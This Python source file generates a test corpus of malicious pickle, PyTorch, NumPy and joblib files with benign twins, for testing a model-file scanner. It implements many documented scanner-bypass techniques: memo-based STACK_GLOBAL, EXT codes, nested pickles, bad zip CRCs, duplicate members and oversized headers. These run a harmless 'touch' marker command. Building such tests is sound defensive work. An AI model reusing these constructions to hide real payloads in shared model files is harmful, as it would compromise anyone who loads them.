"""A corpus of malicious files, each with a benign twin of the same layout, built by code.

Each case is a layout (how a loader reads the file: pickle.load, torch.load's zip, legacy and
tar formats, np.load, joblib.load) and a technique (how the call hides from a scanner). The
malicious file calls `posix.system("touch /tmp/<MARKER>")` on load; its twin makes the same
layout call an allowed function (`collections.OrderedDict()`), and the real loader loads the
twin (tests/unit/test_pickles.py), so each layout is proved to be one a loader reads, and the
judgement is proved not to refuse the layout itself. No malicious file is ever loaded: the
tests check that the marker was never created.

Sources each case cites:
- picklescan's advisories: CVE-2025-1716 (a dangerous global not on its deny list: pip.main),
  CVE-2025-10155 (a pickle with a suffix it does not scan), CVE-2025-10156 (a zip member with
  a bad CRC: Python's zipfile raises, torch loads it), CVE-2025-10157 (dangerous globals
  through submodules of allowed-looking packages);
- JFrog, "Data scientists targeted by malicious Hugging Face ML models" (2024): a torch zip
  whose data.pkl calls a reverse shell; ReversingLabs "nullifAI" (2025): a broken 7z/zip stream
  that a scanner stops reading while torch loads the pickle before the break;
- Sonatype (2025): four picklescan bypasses (a pickle ended early, a bad CRC, a zip whose
  member a scanner does not look at, a torch file under another suffix);
- Checkmarx (2025): numpy object arrays and joblib files as carriers;
- fickling's list of bypasses (trailofbits/fickling, "analysis"): STACK_GLOBAL from the memo,
  INST/OBJ instead of REDUCE, EXT codes, nested pickles, getattr on __import__, Python 2
  names, a second pickle after STOP;
- CPython's Modules/_pickle.c against Lib/pickletools.py: arguments the unpickler accepts and
  pickletools rejects (an INT or LONG read with strtol's base 0, a NUL ending a number or a
  memo index), the root of "the scanner stopped and called the rest clean" (issue 36).
"""

from __future__ import annotations

import bz2
import collections
import gzip
import io
import lzma
import pickle
import pickletools
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MARKER = "wlock-pickle-ran"  # every malicious payload would create /tmp/<this>
CMD = f"touch /tmp/{MARKER}"
PLACEHOLDER = "@@payload@@"  # a string in a host pickle, replaced by the payload's opcodes


def _line_global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data  # BINUNICODE


@dataclass(frozen=True)
class Call:
    """What the payload calls: a global and the opcodes of its argument items."""

    module: str
    name: str
    items: bytes  # the arguments' opcodes, pushed one by one (TUPLE after a MARK wraps them)


EVIL = Call("posix", "system", _unicode(CMD))
GOOD = Call("collections", "OrderedDict", b"")


# -- techniques: opcodes that leave the call's result on the stack ----------------------

def reduce(call: Call) -> bytes:
    return _line_global(call.module, call.name) + b"(" + call.items + b"tR"


def stack_global(call: Call) -> bytes:
    return _unicode(call.module) + _unicode(call.name) + b"\x93(" + call.items + b"tR"


def stack_global_memo(call: Call) -> bytes:
    """STACK_GLOBAL's names written to the memo, popped, and read back: no GLOBAL opcode
    names them, and a scanner must follow the memo."""
    put = lambda k: b"r" + struct.pack("<I", k)  # noqa: E731
    get = lambda k: b"j" + struct.pack("<I", k)  # noqa: E731
    return (_unicode(call.module) + put(90001) + b"0" + _unicode(call.name) + put(90002)
            + b"0" + get(90001) + get(90002) + b"\x93(" + call.items + b"tR")


def inst(call: Call) -> bytes:
    return b"(" + call.items + b"i" + call.module.encode() + b"\n" + call.name.encode() + b"\n"


def obj(call: Call) -> bytes:
    return b"(" + _line_global(call.module, call.name) + call.items + b"o"


def python2_names(call: Call) -> bytes:
    """A protocol-2 stream naming Python 2's modules: the unpickler maps `__builtin__` to
    builtins (fix_imports), so `__builtin__.eval` is builtins.eval."""
    renamed = {"posix": "__builtin__", "system": "eval"} if call is EVIL else {}
    module, name = renamed.get(call.module, call.module), renamed.get(call.name, call.name)
    items = _unicode(f"__import__('os').system('{CMD}')") if call is EVIL else call.items
    return _line_global(module, name) + b"(" + items + b"tR"


EXT_CODE = 0x2A5


def ext_code(call: Call) -> bytes:
    """EXT2: an object named by a code of copyreg's extension registry, no module or name in
    the file (a process whose libraries registered the code imports it; the judge's own
    registry says nothing of a loader's, so a declared pickle that uses one is unknown)."""
    if call is not EVIL:
        return reduce(call)
    return b"\x83" + struct.pack("<H", EXT_CODE) + b"(" + call.items + b"tR"


def nested(call: Call) -> bytes:
    """An outer call of pickle.loads on the bytes of an inner pickle."""
    if call is not EVIL:
        return reduce(call)
    inner = b"\x80\x02" + reduce(call) + b"."
    return _line_global("pickle", "loads") + b"(B" + len(inner).to_bytes(4, "little") + inner \
        + b"tR"


def getattr_import(call: Call) -> bytes:
    """builtins.getattr(builtins.__import__('posix'), 'system')(...): no GLOBAL names it."""
    if call is not EVIL:
        return reduce(call)
    return (_line_global("builtins", "getattr") + b"(" + _line_global("builtins", "__import__")
            + b"(" + _unicode(call.module) + b"tR" + _unicode(call.name) + b"tR("
            + call.items + b"tR")


def named(module: str, name: str) -> Callable[[Call], bytes]:
    """A dangerous global another scanner's deny list missed, called with the command."""
    def technique(call: Call) -> bytes:
        return reduce(Call(module, name, call.items) if call is EVIL else call)
    return technique


def after(prefix: bytes) -> Callable[[Call], bytes]:
    """An allowed call, then an opcode whose argument pickletools rejects and CPython's
    unpickler accepts, then the call: a scanner that stops at the first is blind to the last
    (issue 36: "an OrderedDict, then ...")."""
    def technique(call: Call) -> bytes:
        return reduce(GOOD) + b"0" + prefix + b"0" + reduce(call)
    return technique


# -- layouts: files a loader reads ----------------------------------------------------------

def plain(fragment: bytes, proto: int = 2) -> bytes:
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + fragment + b"."


def twice(fragment: bytes) -> bytes:
    """A benign pickle, then a second one: a reader that calls load() twice runs both."""
    return plain(reduce(GOOD)) + plain(fragment, 4)


def _inject(host: bytes, fragment: bytes) -> bytes:
    """`host` (a pickle) running `fragment` first, its value popped, then the host as it was:
    a loader gets the host's own value back."""
    if host[:1] == b"\x80":
        return host[:2] + fragment + b"0" + host[2:]
    return fragment + b"0" + host


def _torch() -> Any:
    import torch

    return torch


def _state() -> Any:
    torch = _torch()
    return collections.OrderedDict(weight=torch.arange(6, dtype=torch.float32))


def _torch_zip_members() -> list[tuple[str, bytes]]:
    buffer = io.BytesIO()
    _torch().save(_state(), buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def torch_zip(fragment: bytes, *, member: str = "data.pkl", deflate: bool = False,
              bad_crc: bool = False, duplicate: bool = False, extra: str | None = None
              ) -> bytes:
    """torch.save's zip with `fragment` run by its data.pkl (written as `member`), stored or
    deflated, with a CRC that does not match, after a first benign data.pkl of the same name,
    or in another pickle member (`extra`)."""
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in _torch_zip_members():
            if name.endswith("/data.pkl"):
                if extra is not None:
                    z.writestr(name, data)
                    z.writestr(name.replace("data.pkl", extra), plain(fragment))
                    continue
                if duplicate:
                    z.writestr(name, data)
                    import warnings
                    with warnings.catch_warnings():
                        warnings.simplefilter("ignore")  # "Duplicate name": the point
                        z.writestr(name, _inject(data, fragment))
                    continue
                name, data = name.replace("data.pkl", member), _inject(data, fragment)
            z.writestr(name, data)
    raw = bytearray(out.getvalue())
    if bad_crc:
        _zero_crc(raw, member)
    return bytes(raw)


def _zero_crc(raw: bytearray, member: str) -> None:
    """Zero the CRC of `member` in its local header and the central directory."""
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as z:
        info = next(i for i in z.infolist() if i.filename.endswith(member))
    raw[info.header_offset + 14:info.header_offset + 18] = b"\0\0\0\0"
    pos = raw.find(b"PK\x01\x02")
    while pos != -1:
        length = struct.unpack("<H", raw[pos + 28:pos + 30])[0]
        if bytes(raw[pos + 46:pos + 46 + length]).endswith(member.encode()):
            raw[pos + 16:pos + 20] = b"\0\0\0\0"
        pos = raw.find(b"PK\x01\x02", pos + 4)


def _pickles_of(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """The first `count` pickles of a file and what follows them."""
    out, pos = [], 0
    for _ in range(count):
        end = next(p for op, _, p in pickletools.genops(io.BytesIO(data[pos:]))
                   if op.name == "STOP") + 1
        out.append(data[pos:pos + end])
        pos += end
    return out, data[pos:]


def torch_legacy(fragment: bytes, at: int) -> bytes:
    """torch.save(_use_new_zipfile_serialization=False): the magic number, the protocol
    version, sys_info, the object, the storages' keys (five pickles), then raw storages;
    `fragment` runs in pickle number `at`."""
    buffer = io.BytesIO()
    _torch().save(_state(), buffer, _use_new_zipfile_serialization=False)
    pickles, rest = _pickles_of(buffer.getvalue(), 5)
    pickles[at] = _inject(pickles[at], fragment)
    return b"".join(pickles) + rest


def torch_tar(fragment: bytes, member: str, *, decoy: bool = False) -> bytes:
    """torch's legacy tar format as legacy_load reads it: `storages` (a count, then per
    storage a (key, location, type) pickle and its bytes, then the views), `tensors` (a
    count), `pickle` (the object); `fragment` runs in `member` (`storage` for the one
    storage's own pickle)."""
    def p(value: Any, run: bool) -> bytes:
        data = pickle.dumps(value, protocol=2)
        return _inject(data, fragment) if run else data

    record = (b"\x80\x02(" + _unicode("0") + _unicode("cpu")
              + _line_global("torch", "FloatStorage") + b"t.")
    if member == "storage":
        record = _inject(record, fragment)
    files = {
        "storages": p(1, member == "storages") + record + struct.pack("<q", 2)
        + struct.pack("<2f", 1.0, 2.0) + p([], False),
        "tensors": p(0, member == "tensors"),
        "pickle": p({"answer": 42}, member == "pickle"),
    }
    members = list(files.items())
    if decoy:  # a benign `pickle` first: tar.extractfile("pickle") takes the last of a name
        members.insert(0, ("pickle", pickle.dumps({"answer": 0}, protocol=2)))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _np() -> Any:
    import numpy

    return numpy


def npy(fragment: bytes, *, structured: bool = False, version: tuple[int, int] | None = None
        ) -> bytes:
    """np.save of an array of objects (a pickle after the header), or of a structured array
    with an object field; `fragment` runs in that pickle."""
    np = _np()
    array = (np.array([(1.0, "x")], dtype=[("a", "<f4"), ("b", "O")]) if structured
             else np.array([{"a": 1}, "b"], dtype=object))
    out = io.BytesIO()
    if version is None:
        np.save(out, array, allow_pickle=True)
        data = out.getvalue()
    else:
        from numpy.lib import format as npformat

        npformat.write_array(out, array, version=version, allow_pickle=True)
        data = out.getvalue()
    header_end = data.index(b"\n") + 1
    return data[:header_end] + _inject(data[header_end:], fragment)


def npz(fragment: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("floats.npy", _npy_plain())
        z.writestr("objects.npy", npy(fragment))
    return out.getvalue()


def _reheader(data: bytes, text: bytes, version: tuple[int, int]) -> bytes:
    """An .npy (`data`) with its header replaced by `text`, in format `version`."""
    length = 2 if version == (1, 0) else 4
    start = 8 + (2 if data[6] == 1 else 4)
    old = int.from_bytes(data[8:start], "little")
    body = data[start + old:]
    size = len(text).to_bytes(length, "little")
    return b"\x93NUMPY" + bytes(version) + size + text + body


def npy_long_header(fragment: bytes) -> bytes:
    """An array of objects whose header is longer than any cap a judge keeps (2 MiB of
    spaces): np.load(allow_pickle=True) lifts numpy's own 10,000-byte cap and reads it."""
    data = npy(fragment)
    header = data[10:10 + int.from_bytes(data[8:10], "little")].rstrip()
    return _reheader(data, header + b" " * (2 * 1024 * 1024) + b"\n", (2, 0))


def npy_python2(fragment: bytes) -> bytes:
    """A header written by Python 2 (`(2L,)`): a SyntaxError to ast.literal_eval, which
    numpy answers by re-parsing it without the `L` (format.py, _filter_header)."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (2L,), }"
    return _reheader(npy(fragment), header + b" " * 6 + b"\n", (1, 0))


def npz_of(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("floats.npy", _npy_plain())
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _npy_of(array: Any) -> bytes:
    out = io.BytesIO()
    _np().save(out, array)
    return out.getvalue()


def npz_compressed(method: int, **members: bytes) -> bytes:
    """An .npz whose members are compressed with `method` (bzip2, LZMA), which np.load
    reads through zipfile and torch's reader does not."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def npz_beside_pickle(fragment: bytes) -> bytes:
    """An .npz whose array of objects sits in a `data/` member beside a `.pkl` member, the
    shape of a torch archive: np.load still reads every member that starts as an .npy."""
    return npz_of(**{"archive/data.pkl": pickle.dumps({"step": 1}, protocol=2),
                     "archive/data/0.npy": npy(fragment)})


def npz_empty_end_first(fragment: bytes) -> bytes:
    """A zip that begins with an empty zip's end record (`PK\\x05\\x06`), which np.load takes
    for a zip (`_ZIP_SUFFIX`), then a real one with a deflated member; zipfile finds the
    real directory at the end."""
    return b"PK\x05\x06" + b"\0" * 18 + npz_of(**{"objects.npy": npy(fragment)})


def _npy_plain() -> bytes:
    out = io.BytesIO()
    _np().save(out, _np().arange(4, dtype="<f8"))
    return out.getvalue()


def _splice(host: bytes, fragment: bytes) -> bytes:
    """`host` (a pickle holding PLACEHOLDER once) with the placeholder's string replaced by
    `fragment`'s opcodes; the FRAME around it (protocol 4 and later) grown to match."""
    short = b"\x8c" + bytes([len(PLACEHOLDER)]) + PLACEHOLDER.encode()
    target = _unicode(PLACEHOLDER) if _unicode(PLACEHOLDER) in host else short
    assert host.count(target) == 1, "the placeholder must be in the host once"
    at = host.index(target)
    out = bytearray(host.replace(target, fragment))
    start = max(host.rfind(b"\x80\x04\x95", 0, at), host.rfind(b"\x80\x05\x95", 0, at))
    if start >= 0:
        frames = [pos for op, _, pos in pickletools.genops(io.BytesIO(host[start:]))
                  if op.name == "FRAME" and start + pos < at]
        if frames:
            where = start + frames[-1] + 1
            length = struct.unpack("<Q", host[where:where + 8])[0]
            out[where:where + 8] = struct.pack("<Q", length + len(fragment) - len(target))
    return bytes(out)


def _joblib_dump(value: Any) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump(value, out, protocol=2)
    return out.getvalue()


def joblib_plain(fragment: bytes) -> bytes:
    return _splice(_joblib_dump({"n": 3, "p": PLACEHOLDER}), fragment)


def joblib_arrays(fragment: bytes) -> bytes:
    """joblib's own format: numpy arrays written inline, raw, between the opcodes (read by
    joblib.load from the stream after each array's header); the payload comes after them."""
    np = _np()
    return _splice(_joblib_dump({"a": np.arange(5, dtype="<f4"), "b": np.ones((2, 3)),
                                 "p": PLACEHOLDER}), fragment)


def joblib_object_array(fragment: bytes) -> bytes:
    """An array of objects: joblib writes it as a pickle of its own inside the stream."""
    np = _np()
    return _splice(_joblib_dump({"a": np.arange(3.0),
                                 "o": np.array([1, PLACEHOLDER], dtype=object)}), fragment)


_COMPRESS = {"gzip": gzip.compress, "zlib": zlib.compress, "bz2": bz2.compress,
             "xz": lzma.compress,
             "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)}


def joblib_compressed(kind: str) -> Callable[[bytes], bytes]:
    """joblib.dump(compress=...): the same stream behind joblib's compressor of `kind`."""
    def layout(fragment: bytes) -> bytes:
        return _COMPRESS[kind](joblib_arrays(fragment))
    return layout


# -- the cases ------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    name: str  # the file's path in a repo
    source: str  # where the technique or layout is described
    layout: Callable[[bytes], bytes]
    technique: Callable[[Call], bytes]
    loader: str  # pickle | pickle-twice | torch | torch-file | numpy | joblib
    calls: str = "posix.system"  # what the judgement must name (or "unknown")

    def malicious(self) -> bytes:
        return self.layout(self.technique(EVIL))

    def benign(self) -> bytes:
        return self.layout(self.technique(GOOD))


FICKLING = "fickling's bypass list"
PICKLETOOLS = "CPython _pickle.c vs pickletools"


def _cases() -> list[Case]:
    proto = lambda n: (lambda f: plain(f, n))  # noqa: E731
    return [
        Case("proto0.pkl", "fickling: protocol 0, no PROTO", proto(0), reduce, "pickle"),
        Case("proto2.pkl", "JFrog 2024", proto(2), reduce, "pickle"),
        Case("proto4.pkl", "JFrog 2024", proto(4), reduce, "pickle"),
        Case("proto5.pkl", "JFrog 2024", proto(5), reduce, "pickle"),
        Case("stack-global.pkl", FICKLING, proto(4), stack_global, "pickle"),
        Case("stack-global-memo.pkl", FICKLING, proto(4), stack_global_memo, "pickle"),
        Case("inst.pkl", FICKLING + ": INST instead of REDUCE", proto(0), inst, "pickle"),
        Case("obj.pkl", FICKLING + ": OBJ instead of REDUCE", proto(1), obj, "pickle"),
        Case("python2-names.pkl", FICKLING + ": __builtin__ is builtins", proto(2),
             python2_names, "pickle", "builtins.eval"),
        Case("ext-code.pkl", FICKLING + ": EXT2", proto(2), ext_code, "pickle", "unknown"),
        Case("nested.pkl", FICKLING + ": a nested pickle", proto(3), nested, "pickle",
             "pickle.loads"),
        Case("getattr-import.pkl", FICKLING + ": getattr on __import__", proto(2),
             getattr_import, "pickle", "builtins.getattr"),
        Case("pip-main.pkl", "CVE-2025-1716 (pip.main)", proto(2), named("pip", "main"),
             "pickle", "pip.main"),
        Case("partial.pkl", "CVE-2025-10157 (a deny list's gap)", proto(2),
             named("functools", "partial"), "pickle", "functools.partial"),
        Case("asyncio-subprocess.pkl", "CVE-2025-10157 (submodule of a package)", proto(2),
             named("asyncio.unix_events", "_UnixSubprocessTransport"), "pickle",
             "asyncio.unix_events._UnixSubprocessTransport"),
        Case("runpy.pkl", "JFrog 2024 (runpy._run_code)", proto(2),
             named("runpy", "_run_code"), "pickle", "runpy._run_code"),
        Case("second-pickle.pkl", FICKLING + ": a second pickle after STOP", twice, reduce,
             "pickle-twice"),
        Case("second-pickle-proto5.pkl", "the same, the second of protocol 5",
             lambda f: plain(reduce(GOOD)) + plain(f, 5), reduce, "pickle-twice"),
        Case("tar-pickle-twice.pt", "torch legacy tar: two `pickle` members, torch reads the "
             "last", lambda f: torch_tar(f, "pickle", decoy=True), reduce, "torch-file"),
        Case("int-nul.pkl", PICKLETOOLS + ": INT ends at a NUL", proto(2),
             after(b"I1\x00x\n"), "pickle"),
        Case("int-hex.pkl", PICKLETOOLS + ": INT read with base 0", proto(2),
             after(b"I0x10\n"), "pickle"),
        Case("long-hex.pkl", PICKLETOOLS + ": LONG read with base 0", proto(2),
             after(b"L0x1fL\n"), "pickle"),
        Case("float-nul.pkl", PICKLETOOLS + ": FLOAT ends at a NUL", proto(2),
             after(b"F1.5\x00junk\n"), "pickle"),
        Case("memo-nul.pkl", PICKLETOOLS + ": a memo index ends at a NUL", proto(2),
             after(b"]p7\x00x\n0g7\x00y\n"), "pickle"),
        Case("weights.dat", "CVE-2025-10155 (a suffix not scanned)", proto(2), reduce,
             "pickle"),
        Case("checkpoint", "CVE-2025-10155 (no suffix at all; protocol 0)", proto(0), reduce,
             "pickle"),
        Case("pytorch_model.bin", "JFrog 2024 (data.pkl of torch.save's zip)", torch_zip,
             reduce, "torch"),
        Case("case.bin", "Sonatype 2025 (a member a scanner does not look for)",
             lambda f: torch_zip(f, member="DATA.PKL"), reduce, "torch"),
        Case("bad-crc.bin", "CVE-2025-10156 (a bad CRC)",
             lambda f: torch_zip(f, bad_crc=True), reduce, "torch"),
        Case("deflated.bin", "ReversingLabs nullifAI 2025 (a compressed member)",
             lambda f: torch_zip(f, deflate=True), reduce, "torch"),
        Case("duplicate.bin", "Sonatype 2025 (two members of one name)",
             lambda f: torch_zip(f, duplicate=True), reduce, "torch"),
        Case("extra-pickle.bin", "fickling: every pickle member of the archive",
             lambda f: torch_zip(f, extra="extra.pkl"), reduce, "torch"),
        Case("ordered-dict-then.bin", "issue 36 (data.pkl after an OrderedDict)", torch_zip,
             after(b"I1\x00x\n"), "torch"),
        Case("stack-global.pt", FICKLING, torch_zip, stack_global_memo, "torch"),
        Case("model-00001-of-00002.weights", "Sonatype 2025 (a shard under another suffix)",
             torch_zip, reduce, "torch"),
        Case("checkpoint.pth.tar", "CVE-2025-10155 (.pth.tar)", torch_zip, reduce, "torch"),
        *[Case(f"legacy-{at}.pt", f"torch legacy format, pickle {at + 1} of 5",
               lambda f, at=at: torch_legacy(f, at), reduce, "torch") for at in range(5)],
        *[Case(f"tar-{member}.pt", f"torch legacy tar format ({member})",
               lambda f, m=member: torch_tar(f, m), reduce, "torch-file")
          for member in ("pickle", "storages", "storage", "tensors")],
        Case("objects.npy", "Checkmarx 2025 (np.load, allow_pickle)", npy, reduce, "numpy"),
        Case("structured.npy", "Checkmarx 2025 (an object field)",
             lambda f: npy(f, structured=True), reduce, "numpy"),
        Case("version2.npy", "numpy format 2.0 header",
             lambda f: npy(f, version=(2, 0)), reduce, "numpy"),
        Case("version3.npy", "numpy format 3.0 header (utf-8), which np.load reads",
             lambda f: npy(f, version=(3, 0)), reduce, "numpy"),
        Case("arrays.npz", "Checkmarx 2025 (.npz)", npz, reduce, "numpy"),
        Case("long-header.npy", "numpy format.py: allow_pickle lifts max_header_size",
             npy_long_header, reduce, "numpy"),
        Case("python2-header.npy", "numpy format.py: _filter_header's Python-2 re-parse",
             npy_python2, reduce, "numpy"),
        Case("long-header.npz", "the same, as an .npz member",
             lambda f: npz_of(**{"objects.npy": npy_long_header(f)}), reduce, "numpy"),
        Case("python2-header.npz", "the same, as an .npz member",
             lambda f: npz_of(**{"objects.npy": npy_python2(f)}), reduce, "numpy"),
        Case("beside-pickle.npz", "np.load reads every member, torch's data/ ones too",
             npz_beside_pickle, reduce, "numpy"),
        Case("end-record-first.npz", "numpy format.py: _ZIP_SUFFIX (PK\\x05\\x06)",
             npz_empty_end_first, reduce, "numpy"),
        Case("unnamed-member.npz", "np.load reads a member as an array whatever its name",
             lambda f: npz_of(objects=npy(f)), reduce, "numpy"),
        Case("bzip2-member.npz", "np.load's zipfile decompresses bzip2 members",
             lambda f: npz_compressed(zipfile.ZIP_BZIP2, objects=npy(f)), reduce, "numpy"),
        Case("lzma-member.npz", "... and LZMA ones",
             lambda f: npz_compressed(zipfile.ZIP_LZMA, objects=npy(f)), reduce, "numpy"),
        Case("model.joblib", "Checkmarx 2025 (joblib)", joblib_plain, reduce, "joblib"),
        Case("arrays.joblib", "joblib's inline arrays", joblib_arrays, reduce, "joblib"),
        Case("objects.joblib", "joblib: a pickle inside an array", joblib_object_array, reduce,
             "joblib"),
        *[Case(f"compressed-{kind}.joblib", f"joblib compress={kind!r}",
               joblib_compressed(kind), reduce, "joblib") for kind in _COMPRESS],
    ]


CASES = _cases()


def load(case: Case, data: bytes, folder: Path) -> Any:
    """`data` loaded by the loader `case` names, as a user's code would: only ever called
    with a benign twin."""
    path = folder / case.name.replace("/", "_")
    path.write_bytes(data)
    if case.loader == "pickle":
        with path.open("rb") as f:
            return pickle.load(f)
    if case.loader == "pickle-twice":
        with path.open("rb") as f:
            return [pickle.load(f), pickle.load(f)]
    if case.loader in ("torch", "torch-file"):
        return _torch().load(path, weights_only=False)
    if case.loader == "numpy":
        loaded = _np().load(path, allow_pickle=True)
        return {k: loaded[k] for k in loaded.files} if hasattr(loaded, "files") else loaded
    if case.loader == "joblib":
        import joblib

        return joblib.load(path)
    raise AssertionError(case.loader)


def benign_checkpoints(folder: Path) -> dict[str, Path]:
    """Real files the libraries write, which `safe-imports` must pass: torch.save (zip and
    legacy, state dicts and optimizer states, every dtype), np.save/np.savez, joblib.dump
    (plain, each compressor, arrays), pickle of numpy arrays."""
    import joblib
    import numpy as np
    import torch

    folder.mkdir(parents=True, exist_ok=True)
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    optimizer = torch.optim.AdamW(model.parameters())
    model(torch.ones(1, 4)).sum().backward()
    optimizer.step()
    state = model.state_dict()
    writers: dict[str, Callable[[Path], Any]] = {
        "pytorch_model.bin": lambda p: torch.save(state, p),
        "legacy.pt": lambda p: torch.save(state, p, _use_new_zipfile_serialization=False),
        "optimizer.pt": lambda p: torch.save(optimizer.state_dict(), p),
        "legacy-optimizer.pt": lambda p: torch.save(optimizer.state_dict(), p,
                                                    _use_new_zipfile_serialization=False),
        "half.bin": lambda p: torch.save({k: v.half() for k, v in state.items()}, p),
        "bf16.bin": lambda p: torch.save({k: v.bfloat16() for k, v in state.items()}, p),
        "ints.pt": lambda p: torch.save({"i8": torch.arange(4, dtype=torch.int8),
                                         "i64": torch.arange(4), "b": torch.ones(2) > 0}, p),
        "nested.pt": lambda p: torch.save({"model": state, "step": 3, "lr": [0.1, 0.01],
                                           "name": "run"}, p),
        "module-list.pt": lambda p: torch.save([state, state], p),
        "arrays.pkl": lambda p: p.write_bytes(pickle.dumps(
            {"w": np.arange(6, dtype=np.float32).reshape(2, 3), "n": 3}, protocol=4)),
        "arrays-proto2.pkl": lambda p: p.write_bytes(pickle.dumps(
            {"w": np.arange(6.0)}, protocol=2)),
        "floats.npy": lambda p: np.save(p, np.arange(10, dtype=np.float64)),
        "matrix.npy": lambda p: np.save(p, np.ones((3, 4), dtype=np.int32)),
        "strings.npy": lambda p: np.save(p, np.array(["ab", "cde"])),
        "structured.npy": lambda p: np.save(p, np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")])),
        "arrays.npz": lambda p: np.savez(p, a=np.arange(3), b=np.ones(2)),
        "compressed.npz": lambda p: np.savez_compressed(p, a=np.arange(100)),
        "bzip2.npz": lambda p: p.write_bytes(npz_compressed(zipfile.ZIP_BZIP2, **{
            "a.npy": _npy_of(np.arange(100)), "b.npy": _npy_of(np.ones((2, 3)))})),
        "model.joblib": lambda p: joblib.dump({"coef": np.arange(4.0), "n": 4}, p),
        "big.joblib": lambda p: joblib.dump({"w": np.random.default_rng(0).random(70000)}, p),
        "list.joblib": lambda p: joblib.dump([1, 2, "three", {"four": 4.0}], p),
        **{f"z-{kind}.joblib": (lambda p, k=kind: joblib.dump({"w": np.arange(50.0)}, p,
                                                              compress=(k, 3)))
           for kind in ("zlib", "gzip", "bz2", "xz", "lzma")},
    }
    out = {}
    for name, write in writers.items():
        path = folder / name
        write(path)
        if name.endswith(".npz") and not path.exists():
            path = path.with_name(name)  # np.savez adds .npz only when it is missing
        out[name] = path
    return out
